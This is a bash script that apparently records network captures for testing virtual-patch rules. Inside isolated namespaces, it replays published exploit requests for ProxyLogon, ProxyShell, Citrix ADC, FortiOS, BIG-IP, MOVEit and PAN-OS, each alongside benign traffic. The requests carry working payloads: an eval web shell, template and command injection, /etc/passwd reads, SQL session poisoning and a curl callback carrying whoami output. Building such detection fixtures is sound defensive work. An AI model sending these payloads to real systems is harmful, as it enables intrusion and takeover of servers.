#!/usr/bin/env bash
# Captures the real HTTP traffic the web/appliance virtual-patch tests replay (part 2 of the web
# patches): proxylogon, proxyshell, citrix-adc-traversal, fortios-path-traversal,
# bigip-icontrol-auth-bypass, moveit-sqli, panos-globalprotect. One script for all seven; each pcap
# lands in <patch>/traffic/.
#
# Client: curl (--path-as-is, -H, -b, --data; --next for HTTP/1.1 keep-alive with a benign request
# first). Servers: rules/packs/traffic/http-ok.py (HTTP/1.1 keep-alive) on ports 80 and 10443 standing
# in for Exchange, MOVEit Transfer, Citrix ADC and FortiOS SSL VPN, and a node http server on ports 8443
# and 8080 standing in for BIG-IP iControl REST and PAN-OS GlobalProtect. They answer every request
# with 200 and a short body: the patches block requests, so what matters is the client's framing.
# (The real products speak HTTPS; a gateway sees these requests in clear after TLS termination or on
# plain-HTTP listeners.)
#
# Hosts are network namespaces tsv-web2-cli (198.18.3.129) and tsv-web2-srv (198.18.3.130) joined by
# a veth pair; nothing leaves them. Every conversation uses its own client port (--local-port), so one
# capture is split into one small pcap per conversation with a tcpdump port filter.
# Run as root from anywhere; the plumbing is rules/packs/traffic/netns.sh. Pcaps land in
# <patch>/traffic/ under $OUT (default: rules/packs/vpatch, i.e. beside each patch).
. "$(dirname "$0")/../../../traffic/netns.sh"
packs="${OUT:-$TSV_HERE/../..}"  # pcaps go to $packs/<patch>/traffic/
work="$TSV_WORK"
tsv_pair tsv-web2-cli 198.18.3.129/25 tsv-web2-srv 198.18.3.130/25

cat > "$work/server.mjs" <<'JS'
import http from "node:http";
for (const port of process.argv.slice(2)) {
  http.createServer((req, res) => {
    req.on("data", () => {});
    req.on("end", () => { res.writeHead(200, { "content-type": "application/json" }); res.end('{"kind":"ok"}\n'); });
  }).listen(Number(port), "198.18.3.130");
}
JS
tsv_serve python3 "$TSV_LIB/http-ok.py" --http11 --bind 198.18.3.130 80 10443
tsv_serve node "$work/server.mjs" 8443 8080
for port in 80 10443 8443 8080; do tsv_wait_port "$port"; done
tsv_tcpdump_start "$work/all.pcap" tcp

S=198.18.3.130
UA='Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/119.0 Safari/537.36'
c() { ip netns exec "$TSV_CLI" curl -s -o /dev/null --path-as-is --max-time 5 "$@"; }

# ---- proxylogon -------------------------------------------------------------------------------
# 41001: the public ProxyLogon chain's first step (SSRF to the back end's autodiscover as SYSTEM)
c --local-port 41001 -A 'python-requests/2.25.1' -X POST "http://$S/ecp/y.js" \
  -b 'X-BEResource=Administrator@EXCH01:444/autodiscover/autodiscover.xml?a=~1942062522' \
  -H 'Content-Type: text/xml' \
  --data '<Autodiscover xmlns="http://schemas.microsoft.com/exchange/autodiscover/outlook/requestschema/2006"><Request><EMailAddress>administrator@contoso.com</EMailAddress><AcceptableResponseSchema>http://schemas.microsoft.com/exchange/autodiscover/outlook/responseschema/2006a</AcceptableResponseSchema></Request></Autodiscover>'
# 41002: keep-alive, an OWA logon page first, then the scanner check (Microsoft's CVE-2021-26855 nmap
# script shape: X-AnonResource-Backend and X-BEResource), cookie names in lower case
c --local-port 41002 -A "$UA" "http://$S/owa/auth/logon.aspx?replaceCurrent=1&url=https%3a%2f%2fmail.contoso.com%2fowa%2f" \
  --next -o /dev/null --path-as-is --local-port 41002 -A "$UA" "http://$S/ecp/x.css" \
  -b 'x-anonresource=true; x-anonresource-backend=localhost/ecp/default.flt?~3; x-beresource=localhost/owa/auth/logon.aspx?~3'
# 41003: CVE-2021-27065 (authenticated ECP): the OAB virtual directory's ExternalUrl carries a web
# shell, JSON-escaped (\u003c, \u0022) as a JSON encoder writes it
c --local-port 41003 -A "$UA" -X POST \
  "http://$S/ecp/DDI/DDIService.svc/SetObject?schema=OABVirtualDirectory&msExchEcpCanary=Qm9hcmQ5X0hXaEVhZ1l0V0dUcnFzRjlHdz09" \
  -b 'ASP.NET_SessionId=3f1c6a1e-4e0b-4b8c-9f2b-7d3e1a2b4c5d; msExchEcpCanary=Qm9hcmQ5X0hXaEVhZ1l0V0dUcnFzRjlHdz09' \
  -H 'Content-Type: application/json; charset=utf-8' \
  --data '{"identity":{"__type":"Identity:ECP","DisplayName":"OAB (Default Web Site)","RawIdentity":"3d1b4a7e-9c2f-4e8b-a1d5-6f0e2c9b8a71"},"properties":{"Parameters":{"__type":"JsonDictionaryOfanyType:#Microsoft.Exchange.Management.ControlPanel","ExternalUrl":"http://f/#\u003cscript language=\u0022JScript\u0022 runat=\u0022server\u0022\u003efunction Page_Load(){eval(Request[\u0022c\u0022],\u0022unsafe\u0022);}\u003c/script\u003e"}}}'
# 41004: CVE-2021-27065 step two: reset the OAB virtual directory, saving its settings to an .aspx
c --local-port 41004 -A "$UA" -X POST \
  "http://$S/ecp/DDI/DDIService.svc/SetObject?schema=ResetOABVirtualDirectory&msExchEcpCanary=Qm9hcmQ5X0hXaEVhZ1l0V0dUcnFzRjlHdz09" \
  -b 'ASP.NET_SessionId=3f1c6a1e-4e0b-4b8c-9f2b-7d3e1a2b4c5d; msExchEcpCanary=Qm9hcmQ5X0hXaEVhZ1l0V0dUcnFzRjlHdz09' \
  -H 'Content-Type: application/json; charset=utf-8' \
  --data '{"identity":{"__type":"Identity:ECP","DisplayName":"OAB (Default Web Site)","RawIdentity":"3d1b4a7e-9c2f-4e8b-a1d5-6f0e2c9b8a71"},"properties":{"Parameters":{"__type":"JsonDictionaryOfanyType:#Microsoft.Exchange.Management.ControlPanel","FilePathName":"\\\\127.0.0.1\\c$\\Program Files\\Microsoft\\Exchange Server\\V15\\FrontEnd\\HttpProxy\\owa\\auth\\tsugi.aspx"}}}'
# 41011: benign, one keep-alive connection: OWA, forms logon, ECP with its usual cookies, ECP static
# resource, a normal OAB virtual directory edit (ExternalUrl an https URL) and a normal reset to a .txt
c --local-port 41011 -A "$UA" "http://$S/owa/" \
  --next -o /dev/null --local-port 41011 -A "$UA" -X POST "http://$S/owa/auth.owa" -H 'Content-Type: application/x-www-form-urlencoded' \
    --data 'destination=https%3A%2F%2Fmail.contoso.com%2Fowa%2F&flags=4&forcedownlevel=0&username=contoso%5Calice&password=Summer2021%21&passwordText=&isUtf8=1' \
  --next -o /dev/null --local-port 41011 -A "$UA" "http://$S/ecp/" -b 'X-BackEndCookie=S-1-5-21-1004336348-1177238915-682003330-1107=u56Lnp2ejJqBzJvGmsiczc3SyMrOz9LLms7H0sfMnJ3SnMvNnM/GnMrJmcacgYHNz87J0s/N0s/Mq8/NxcrNxc/M; msExchEcpCanary=Qm9hcmQ5X0hXaEVhZ1l0V0dUcnFzRjlHdz09' \
  --next -o /dev/null --local-port 41011 -A "$UA" "http://$S/ecp/15.2.792.3/themes/resources/og_logo.png" -b 'msExchEcpCanary=Qm9hcmQ5X0hXaEVhZ1l0V0dUcnFzRjlHdz09' \
  --next -o /dev/null --local-port 41011 -A "$UA" -X POST "http://$S/ecp/DDI/DDIService.svc/SetObject?schema=OABVirtualDirectory&msExchEcpCanary=Qm9hcmQ5X0hXaEVhZ1l0V0dUcnFzRjlHdz09" \
    -b 'msExchEcpCanary=Qm9hcmQ5X0hXaEVhZ1l0V0dUcnFzRjlHdz09' -H 'Content-Type: application/json; charset=utf-8' \
    --data '{"identity":{"__type":"Identity:ECP","DisplayName":"OAB (Default Web Site)","RawIdentity":"3d1b4a7e-9c2f-4e8b-a1d5-6f0e2c9b8a71"},"properties":{"Parameters":{"__type":"JsonDictionaryOfanyType:#Microsoft.Exchange.Management.ControlPanel","ExternalUrl":"https://mail.contoso.com/OAB","RequireSSL":true}}}' \
  --next -o /dev/null --local-port 41011 -A "$UA" -X POST "http://$S/ecp/DDI/DDIService.svc/SetObject?schema=ResetOABVirtualDirectory&msExchEcpCanary=Qm9hcmQ5X0hXaEVhZ1l0V0dUcnFzRjlHdz09" \
    -b 'msExchEcpCanary=Qm9hcmQ5X0hXaEVhZ1l0V0dUcnFzRjlHdz09' -H 'Content-Type: application/json; charset=utf-8' \
    --data '{"identity":{"__type":"Identity:ECP","DisplayName":"OAB (Default Web Site)","RawIdentity":"3d1b4a7e-9c2f-4e8b-a1d5-6f0e2c9b8a71"},"properties":{"Parameters":{"__type":"JsonDictionaryOfanyType:#Microsoft.Exchange.Management.ControlPanel","FilePathName":"C:\\ExchangeBackup\\oab-settings.txt"}}}'

# ---- proxyshell --------------------------------------------------------------------------------
# 42001: the published ProxyShell SSRF to the back end's /mapi/nspi (Orange Tsai's path confusion)
c --local-port 42001 -A 'python-requests/2.26.0' \
  "http://$S/autodiscover/autodiscover.json?@evil.corp/mapi/nspi/?&Email=autodiscover/autodiscover.json%3F@evil.corp"
# 42002: to /powershell with the X-Rps-CAT token, mixed case, the parameter name and slash percent-encoded
c --local-port 42002 -A 'Microsoft WinRM Client' -X POST -H 'Content-Type: application/soap+xml;charset=UTF-8' \
  "http://$S/aUtOdIsCoVeR/AutoDiscover.JSON?@x.y/powershell/?X-Rps-CAT=VgEAVAdXaW5kb3dzQwBBCEtlcmJlcm9zTBVhZG1pbmlzdHJhdG9yQGNvbnRvc28uY29tVSxTLTEtNS0yMS0xMDA0MzM2MzQ4LTExNzcyMzg5MTUtNjgyMDAzMzMwLTUwMEcBAAAABwAAAAxTLTEtNS0zMi01NDRFAAAAAA%3D%3D&%45mail=autodiscover%2Fautodiscover.json%3F@x.y" \
  --data '<s:Envelope xmlns:s="http://www.w3.org/2003/05/soap-envelope" xmlns:a="http://schemas.xmlsoap.org/ws/2004/08/addressing"><s:Header><a:Action s:mustUnderstand="true">http://schemas.xmlsoap.org/ws/2004/09/transfer/Create</a:Action></s:Header><s:Body/></s:Envelope>'
# 42003: keep-alive: a normal autodiscover.json lookup first, then EWS via the confusion (lower-case
# parameter name, an unencoded ? in the value)
c --local-port 42003 -A 'Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.14326; Pro)' \
  "http://$S/autodiscover/autodiscover.json?Email=alice%40contoso.com&Protocol=ActiveSync&RedirectCount=1" \
  --next -o /dev/null --path-as-is --local-port 42003 -A 'python-requests/2.26.0' -X POST -H 'Content-Type: text/xml' \
  "http://$S/autodiscover/autodiscover.json?a=a@b.c/EWS/exchange.asmx?&email=Autodiscover/Autodiscover.json?a=a@b.c" \
  --data '<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><GetFolder xmlns="http://schemas.microsoft.com/exchange/services/2006/messages"/></soap:Body></soap:Envelope>'
# 42011: benign, keep-alive: Autodiscover V2 and POX autodiscover, MAPI over HTTP, OWA
c --local-port 42011 -A 'Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.14326; Pro)' \
  "http://$S/autodiscover/autodiscover.json/v1.0/alice@contoso.com?Protocol=AutodiscoverV1&RedirectCount=1" \
  --next -o /dev/null --local-port 42011 -A 'Microsoft Office/16.0' "http://$S/autodiscover/autodiscover.json?Email=alice%40contoso.com&Protocol=ActiveSync&RedirectCount=1" \
  --next -o /dev/null --local-port 42011 -A 'Microsoft Office/16.0' -X POST -H 'Content-Type: text/xml' "http://$S/autodiscover/autodiscover.xml" \
    --data '<Autodiscover xmlns="http://schemas.microsoft.com/exchange/autodiscover/outlook/requestschema/2006"><Request><EMailAddress>alice@contoso.com</EMailAddress><AcceptableResponseSchema>http://schemas.microsoft.com/exchange/autodiscover/outlook/responseschema/2006a</AcceptableResponseSchema></Request></Autodiscover>' \
  --next -o /dev/null --local-port 42011 -A 'Microsoft Office/16.0' -X POST -H 'Content-Type: application/mapi-http' -H 'X-RequestType: Connect' \
    "http://$S/mapi/emsmdb/?MailboxId=8d3b1f0a-2c4e-4b6a-9e1d-7f5a3c2b1e0d@contoso.com" --data 'CONNECT' \
  --next -o /dev/null --local-port 42011 -A "$UA" "http://$S/owa/?path=/mail/inbox"

# ---- citrix-adc-traversal ----------------------------------------------------------------------
# 43001: the CVE-2019-19781 check every scanner sends (read smb.conf through /vpn/../vpns/)
c --local-port 43001 -A 'curl/7.88.1' "http://$S/vpn/../vpns/cfg/smb.conf"
# 43002: the public exploit's first request: newbm.pl through %2e%2e with a traversing NSC_USER
c --local-port 43002 -A "$UA" -X POST "http://$S/vpn/%2e%2e/vpns/portal/scripts/newbm.pl" \
  -H 'NSC_USER: ../../../netscaler/portal/templates/tsugi1' -H 'NSC_NONCE: nsroot' \
  --data "url=http://example.com&title=[%25+template.new({'BLOCK'%3d'print+readpipe(chr(105).chr(100))'})%25]&desc=desc&UI_inuse=RfWeb"
# 43003: keep-alive: the portal page first, then newbm.pl without URL traversal (an authenticated
# session) and the traversal percent-encoded in a lower-case nsc_user header
c --local-port 43003 -A "$UA" "http://$S/vpn/index.html" \
  --next -o /dev/null --path-as-is --local-port 43003 -A "$UA" -X POST "http://$S/vpns/portal/scripts/newbm.pl" -b 'NSC_AAAC=6c7b2f5a0e1d4c3b9a8f7e6d5c4b3a2f' \
  -H 'nsc_user: %2e%2e/%2e%2e/%2e%2e/netscaler/portal/templates/tsugi2' -H 'nsc_nonce: nsroot' \
  --data 'url=http://example.com&title=x&desc=y&UI_inuse=RfWeb'
# 43011: benign, keep-alive: gateway logon page, login, portal, a normal bookmark by a logged-on user
c --local-port 43011 -A "$UA" "http://$S/vpn/index.html" \
  --next -o /dev/null --local-port 43011 -A "$UA" "http://$S/logon/LogonPoint/index.html" \
  --next -o /dev/null --local-port 43011 -A "$UA" -X POST "http://$S/cgi/login" --data 'login=alice&passwd=Summer2021%21&savecredentials=false&nsg-x1-logon-button=Log+On&StateContext=' \
  --next -o /dev/null --local-port 43011 -A "$UA" "http://$S/vpns/portal/portal.html" -b 'NSC_AAAC=6c7b2f5a0e1d4c3b9a8f7e6d5c4b3a2f' \
  --next -o /dev/null --local-port 43011 -A "$UA" -X POST "http://$S/vpns/portal/scripts/newbm.pl" -b 'NSC_AAAC=6c7b2f5a0e1d4c3b9a8f7e6d5c4b3a2f' \
    -H 'NSC_USER: alice' --data 'url=https%3A%2F%2Fintranet.contoso.com%2F&title=Intranet&desc=Home+page&UI_inuse=RfWeb'

# ---- fortios-path-traversal --------------------------------------------------------------------
# 44001: the published CVE-2018-13379 request (session file with cleartext credentials)
c --local-port 44001 -A 'Mozilla/5.0' "http://$S:10443/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession"
# 44002: keep-alive: the login page first, then the traversal percent-encoded, parameter name upper case
c --local-port 44002 -A "$UA" "http://$S:10443/remote/login?lang=en" \
  --next -o /dev/null --path-as-is --local-port 44002 -A "$UA" "http://$S:10443/remote/fgt_lang?LANG=%2F%2e%2e%2F%2E%2E%2F..%2F%2F%2F%2Fdev%2Fcmdb%2Fsslvpn_websession"
# 44003: another scanner's framing: reads the sslvpnd binary (version fingerprint), extra slashes
c --local-port 44003 -A 'Mozilla/5.0 zgrab/0.x' "http://$S:10443//remote//fgt_lang?lang=/../../../..//////////////////////////bin/sslvpnd"
# 44011: benign, keep-alive: login page, language file, logon POST, portal
c --local-port 44011 -A "$UA" "http://$S:10443/remote/login?lang=en" \
  --next -o /dev/null --local-port 44011 -A "$UA" "http://$S:10443/remote/fgt_lang?lang=en" \
  --next -o /dev/null --local-port 44011 -A "$UA" "http://$S:10443/remote/fgt_lang?lang=zh-cn" \
  --next -o /dev/null --local-port 44011 -A "$UA" -X POST "http://$S:10443/remote/logincheck" --data 'ajax=1&username=alice&realm=&credential=Summer2021%21' \
  --next -o /dev/null --local-port 44011 -A "$UA" "http://$S:10443/sslvpn/portal.html"

# ---- bigip-icontrol-auth-bypass ----------------------------------------------------------------
# 45001: the published CVE-2022-1388 request
c --local-port 45001 -A 'python-requests/2.27.1' -X POST "http://$S:8443/mgmt/tm/util/bash" \
  -H 'Host: 127.0.0.1' -H 'Connection: keep-alive, X-F5-Auth-Token' -H 'X-F5-Auth-Token: a' \
  -H 'Authorization: Basic YWRtaW46' -H 'Content-Type: application/json' \
  --data '{"command":"run","utilCmdArgs":"-c id"}'
# 45002: keep-alive: a normal token request first, then the bypass with the header list in lower
# case without spaces, Authorization before Connection, another endpoint
c --local-port 45002 -A 'curl/7.88.1' "http://$S:8443/mgmt/tm/sys/version" -H 'X-F5-Auth-Token: 4WO5IJ3XZQDVKOVHS3Y6DPSWAL' \
  --next -o /dev/null --local-port 45002 -A 'curl/7.88.1' -X POST "http://$S:8443/mgmt/tm/util/bash" \
  -H 'Authorization: Basic YWRtaW46aG9yaXpvbjM=' -H 'connection: x-f5-auth-token,close' -H 'x-f5-auth-token: 0' \
  -H 'Content-Type: application/json' --data '{"command":"run","utilCmdArgs":"-c \"cat /etc/passwd\""}'
# 45011: benign, keep-alive: login for a token, then version and a bash call with the valid token
c --local-port 45011 -A 'curl/7.88.1' -X POST "http://$S:8443/mgmt/shared/authn/login" -H 'Content-Type: application/json' \
  --data '{"username":"admin","password":"Summer2021!","loginProviderName":"tmos"}' \
  --next -o /dev/null --local-port 45011 -A 'curl/7.88.1' "http://$S:8443/mgmt/tm/sys/version" -H 'Connection: keep-alive' -H 'X-F5-Auth-Token: 4WO5IJ3XZQDVKOVHS3Y6DPSWAL' \
  --next -o /dev/null --local-port 45011 -A 'curl/7.88.1' -X POST "http://$S:8443/mgmt/tm/util/bash" -H 'Connection: keep-alive' \
    -H 'X-F5-Auth-Token: 4WO5IJ3XZQDVKOVHS3Y6DPSWAL' -H 'Content-Type: application/json' \
    --data '{"command":"run","utilCmdArgs":"-c \"tmsh show sys version\""}'

# ---- moveit-sqli -------------------------------------------------------------------------------
SQLV="MyPkgSelfProvisionedRecips: SQL Injection'); INSERT INTO activesessions (AcctReady,Username,LoginName,RealName,InstId,IpAddress,SessionID,LastTouch,Timeout,DMZInterface,ResilNode) VALUES (1,'a','a','a',1234,'127.0.0.1','tsugi1','2099-06-10 09:30:00',60,10,10); -- asdf"
# 46001: the published exploit's session poisoning: a prefixed xX-siLock-Transaction (what the ISAPI
# checks) before the real X-siLock-Transaction: session_setvars (what machine2.aspx runs)
c --local-port 46001 -A 'python-requests/2.31.0' -X POST "http://$S/moveitisapi/moveitisapi.dll?action=m2" \
  -H 'xX-siLock-Transaction: folder_add_by_path' -H 'X-siLock-Transaction: session_setvars' \
  -H 'X-siLock-SessVar0: MyUsername: Guest' -H 'X-siLock-SessVar1: MyPkgAccessCode: 123' \
  -H 'X-siLock-SessVar2: MyPkgID: 0' -H 'X-siLock-SessVar3: MyGuestEmailAddr: my_guest_email@example.com' \
  -H 'X-siLock-SessVar4: MyPkgInstID: 1234' -H "X-siLock-SessVar5: $SQLV" -b 'ASP.NET_SessionId=tsugi1sessionid' --data ''
# 46002: keep-alive: the sign-on page first, then the smuggling with a different prefix, lower case,
# the transaction also named in the form body
c --local-port 46002 -A "$UA" "http://$S/human.aspx" \
  --next -o /dev/null --local-port 46002 -A "$UA" -X POST "http://$S/MOVEitISAPI/MOVEitISAPI.dll?action=m2" \
  -H 'Y-x-silock-transaction: folder_add_by_path' -H 'x-silock-transaction: session_setvars' \
  -H 'x-silock-sessvar0: MyUsername: Guest' -b 'ASP.NET_SessionId=tsugi2sessionid' \
  --data 'transaction=folder_add_by_path&Arg01=x'
# 46003: the SQL injection itself through guestaccess.aspx's package id (Arg06)
c --local-port 46003 -A "$UA" -X POST "http://$S/guestaccess.aspx" -b 'ASP.NET_SessionId=tsugi1sessionid' \
  --data "CsrfToken=4f1b2c3d&transaction=secmsgpost&Arg01=email&Arg04=&Arg05=send&Arg06=123%27%3BUPDATE+activesessions+SET+Username%3D%27sysadmin%27--&Arg08=a%40b.c&Arg09=hi"
# 46004: the same field in the query string of human.aspx (sqlmap-style boolean probe)
c --local-port 46004 -A 'sqlmap/1.7.2#stable (https://sqlmap.org)' "http://$S/human.aspx?transaction=secmsgpost&Arg06=1%20AND%201%3D1--%20-"
# 46011: benign, keep-alive: sign-on page, sign-on, folder browsing, a guest package post (a quote,
# dashes and ; in the message text, a numeric Arg06), and the ISAPI forwarding a single
# X-siLock-Transaction: folder_add_by_path
c --local-port 46011 -A "$UA" "http://$S/human.aspx?OrgID=1234&Language=en" \
  --next -o /dev/null --local-port 46011 -A "$UA" -X POST "http://$S/human.aspx" \
    --data 'transaction=signon&fromsignon=1&InstID=1234&Username=alice&Password=Summer2021%21&Language=en' \
  --next -o /dev/null --local-port 46011 -A "$UA" "http://$S/human.aspx?r=1&arg12=filelist&Arg01=963852741&Arg03=1" -b 'ASP.NET_SessionId=alicesessionid' \
  --next -o /dev/null --local-port 46011 -A "$UA" -X POST "http://$S/guestaccess.aspx" -b 'ASP.NET_SessionId=alicesessionid' \
    --data "CsrfToken=4f1b2c3d&transaction=secmsgpost&Arg01=email&Arg04=&Arg05=send&Arg06=123&Arg08=bob%40contoso.com&Arg09=It%27s+done+--+thanks%3B+see+%2F*notes*%2F" \
  --next -o /dev/null --local-port 46011 -A 'MOVEit Transfer API' -X POST "http://$S/moveitisapi/moveitisapi.dll?action=m2" \
    -H 'X-siLock-Transaction: folder_add_by_path' -H 'X-siLock-FolderPath: /Home/alice/reports' -b 'ASP.NET_SessionId=alicesessionid' --data ''

# ---- panos-globalprotect -----------------------------------------------------------------------
# 47001: the published CVE-2024-3400 request (Volexity / watchTowr): SESSID traversal into the
# telemetry directory with a command in backticks
c --local-port 47001 -A 'Mozilla/5.0' -X POST "http://$S:8080/ssl-vpn/hipreport.esp" \
  -b 'SESSID=/../../../opt/panlogs/tmp/device_telemetry/minute/hellothere226`curl${IFS}198.18.3.130:4444?user=$(whoami)`' \
  -H 'Content-Type: application/x-www-form-urlencoded' \
  --data 'user=global&portal=global&authcookie=e51140e4-4ee3-4ced-9373-96160d68&domain=global&computer=global&client-ip=198.18.3.129&client-ipv6=&md5-sum=b6e3f9c5a1d2&gwHipReportCheck=whatever'
# 47002: keep-alive: the portal login page first, then watchTowr's file-creation check (./../ into
# the web root, no command) on another GlobalProtect URL, SESSID after another cookie
c --local-port 47002 -A "$UA" "http://$S:8080/global-protect/login.esp" -b 'lang=en' \
  --next -o /dev/null --local-port 47002 -A "$UA" "http://$S:8080/global-protect/login.esp" \
  -b 'lang=en; SESSID=./../../../var/appweb/sslvpndocs/global-protect/portal/images/tsugi.txt'
# 47003: the traversal and the command percent-encoded, lower-case cookie name
c --local-port 47003 -A 'Mozilla/5.0' -X POST "http://$S:8080/ssl-vpn/hipreport.esp" \
  -b 'sessid=%2e%2e%2f%2e%2e%2f%2e%2e%2fopt%2fpanlogs%2ftmp%2fdevice_telemetry%2fhour%2faaa%60id%60' --data 'user=global&portal=global'
# 47011: benign, keep-alive: portal login page, prelogin, getconfig, a HIP report with a normal
# (base64-looking, with / and +) SESSID cookie
c --local-port 47011 -A 'PAN GlobalProtect' "http://$S:8080/global-protect/login.esp" \
  --next -o /dev/null --local-port 47011 -A 'PAN GlobalProtect' -X POST "http://$S:8080/global-protect/prelogin.esp" --data 'tmp=tmp&clientVer=4100&clientos=Windows' \
  --next -o /dev/null --local-port 47011 -A 'PAN GlobalProtect' -X POST "http://$S:8080/global-protect/getconfig.esp" \
    --data 'user=alice&passwd=Summer2021%21&clientos=Windows&os-version=Microsoft+Windows+10+Pro&computer=LAPTOP-01&ok=Login' \
  --next -o /dev/null --local-port 47011 -A 'PAN GlobalProtect' -X POST "http://$S:8080/ssl-vpn/hipreport.esp" \
    -b 'SESSID=Zm9vYmFyYmF6/+qux0123==; lang=en' \
    --data 'user=alice&portal=gp-portal&authcookie=e51140e4-4ee3-4ced-9373-96160d68&domain=contoso&computer=LAPTOP-01&client-ip=198.18.3.129&md5-sum=b6e3f9c5a1d2'

tsv_tcpdump_stop  # also recomputes the checksums veth offload leaves partial

split() { # port patch name
  mkdir -p "$packs/$2/traffic"
  tcpdump -r "$work/all.pcap" -w "$packs/$2/traffic/$3.pcap" "tcp port $1" 2>/dev/null
}
split 41001 proxylogon ssrf-autodiscover
split 41002 proxylogon scanner-anonresource-keepalive
split 41003 proxylogon oab-externalurl-webshell
split 41004 proxylogon oab-reset-aspx
split 41011 proxylogon benign-owa-ecp
split 42001 proxyshell mapi-nspi
split 42002 proxyshell powershell-encoded
split 42003 proxyshell ews-keepalive
split 42011 proxyshell benign-autodiscover
split 43001 citrix-adc-traversal smb-conf
split 43002 citrix-adc-traversal newbm-encoded
split 43003 citrix-adc-traversal nsc-user-keepalive
split 43011 citrix-adc-traversal benign-gateway
split 44001 fortios-path-traversal websession
split 44002 fortios-path-traversal encoded-keepalive
split 44003 fortios-path-traversal sslvpnd-scanner
split 44011 fortios-path-traversal benign-login
split 45001 bigip-icontrol-auth-bypass bash-published
split 45002 bigip-icontrol-auth-bypass lowercase-keepalive
split 45011 bigip-icontrol-auth-bypass benign-token
split 46001 moveit-sqli isapi-smuggling
split 46002 moveit-sqli isapi-smuggling-keepalive
split 46003 moveit-sqli guestaccess-arg06
split 46004 moveit-sqli human-arg06-query
split 46011 moveit-sqli benign-browsing
split 47001 panos-globalprotect hipreport-cmd
split 47002 panos-globalprotect login-file-keepalive
split 47003 panos-globalprotect encoded-cookie
split 47011 panos-globalprotect benign-gp
echo "split into $(ls "$packs"/*/traffic/*.pcap | wc -l) pcaps under $packs"
